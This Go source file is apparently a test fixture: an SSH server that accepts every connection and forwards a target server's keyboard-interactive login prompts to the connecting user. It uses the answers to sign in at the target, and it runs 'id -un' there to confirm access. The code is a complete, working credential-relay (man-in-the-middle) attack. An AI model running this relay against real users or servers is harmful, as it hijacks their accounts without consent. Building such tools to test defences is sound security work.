// Relay is a hostile SSH server for the tests: it lets everybody in, connects to another server as whom it likes, and
// passes that server's prompt on to its own victim, in the hope that the victim signs in for it.
//
//	relay LISTEN TARGET USER    ADDRESS:PORT to listen on and to attack
//
// For every victim it prints one line: "got in: " and what 'id -un' says at the target, or "refused: " and what the target
// said.
package main

import (
	"crypto/ed25519"
	"crypto/rand"
	"errors"
	"fmt"
	"net"
	"os"
	"strings"

	"golang.org/x/crypto/ssh"
)

func main() {
	if len(os.Args) != 4 {
		fmt.Fprintln(os.Stderr, "relay LISTEN TARGET USER")
		os.Exit(2)
	}
	fmt.Fprintln(os.Stderr, "relay:", serve(os.Args[1], os.Args[2], os.Args[3]))
	os.Exit(1)
}

// serve relays sign-ins until it fails.
func serve(at, target, user string) error {
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	signer, err := ssh.NewSignerFromKey(key)
	if err != nil {
		return err
	}
	l, err := net.Listen("tcp", at)
	if err != nil {
		return err
	}
	fmt.Println("waiting for victims")
	for {
		c, err := l.Accept()
		if err != nil {
			return err
		}
		go func() {
			cfg := &ssh.ServerConfig{KeyboardInteractiveCallback: func(_ ssh.ConnMetadata, victim ssh.KeyboardInteractiveChallenge) (*ssh.Permissions, error) {
				out, err := attack(target, user, victim)
				if err != nil {
					fmt.Println("refused:", err)
				} else {
					fmt.Println("got in:", out)
				}
				return nil, errors.New("thank you")
			}}
			cfg.AddHostKey(signer)
			if s, _, _, err := ssh.NewServerConn(c, cfg); err == nil {
				s.Close()
			}
		}()
	}
}

// attack signs in at target with what victim answers.
func attack(target, user string, victim ssh.KeyboardInteractiveChallenge) (string, error) {
	var told []string
	c, err := ssh.Dial("tcp", target, &ssh.ClientConfig{
		User: user, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
		BannerCallback: func(m string) error { told = append(told, strings.TrimSpace(m)); return nil },
		Auth: []ssh.AuthMethod{ssh.KeyboardInteractive(func(name, instruction string, questions []string, echos []bool) ([]string, error) {
			if len(questions) == 0 {
				told = append(told, strings.TrimSpace(instruction))
				return nil, nil
			}
			return victim(name, instruction, questions, echos)
		})},
	})
	if err != nil {
		return "", fmt.Errorf("%s (%w)", strings.Join(told, " "), err)
	}
	defer c.Close()
	s, err := c.NewSession()
	if err != nil {
		return "", err
	}
	out, err := s.Output("id -un")
	return strings.TrimSpace(string(out)), err
}
